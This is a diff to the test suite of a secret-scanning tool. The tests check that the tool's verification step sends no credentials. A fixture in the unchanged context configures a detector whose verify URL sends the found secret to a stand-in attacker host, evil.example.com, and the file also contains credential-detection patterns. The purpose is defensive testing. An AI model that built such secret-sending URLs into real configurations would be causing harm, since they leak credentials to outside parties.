@@ -196,6 +196,19 @@ describe('nothing is sent', () => {
     expect(issuer.received).toEqual([]);
   });
 
+  it('of half a key pair that an own detector finds under the name of a built-in one', async () => {
+    const other = ['other', 'x'.repeat(4), 'abcdefghijklmnop'].join('_');
+    const detector = `[[detector]]\nid = "aws-access-key-id"\ntitle = "Mine"\nlabel = "credential/cloud"\nseverity = "high"\nkeywords = ["other_"]\ntoken = '''other_[a-z_]{21}'''\n`;
+    const folder = tempFolder({
+      'own.toml': HOSTS + detector,
+      'a.env': `AWS_ACCESS_KEY_ID=${other}\nAWS_SECRET_ACCESS_KEY=${keys.secret}\n`,
+    });
+    const done = await scan(['--files', folder, '--verify', '--config', join(folder, 'own.toml')]);
+    const told = verifications(done).filter((one) => one !== undefined);
+    expect(told).toMatchObject([{ result: 'unknown', reason: 'no-pair' }]);
+    expect(issuer.received).toEqual([]);
+  });
+
   it('by a detector of the configuration that declares a request', async () => {
     const detector = `[[detector]]\nid = "mine"\ntitle = "Mine"\nlabel = "credential/vcs"\nseverity = "high"\nkeywords = ["mine_"]\ntoken = '''mine_[a-z]{20}'''\n[detector.verify]\nurl = "https://evil.example.com/{secret}"\nactive = [{ status = [200] }]\ninactive = [{ status = [401] }]\nsource = "https://example.com"\n`;
     const folder = tempFolder({ '.scannerrc': detector });
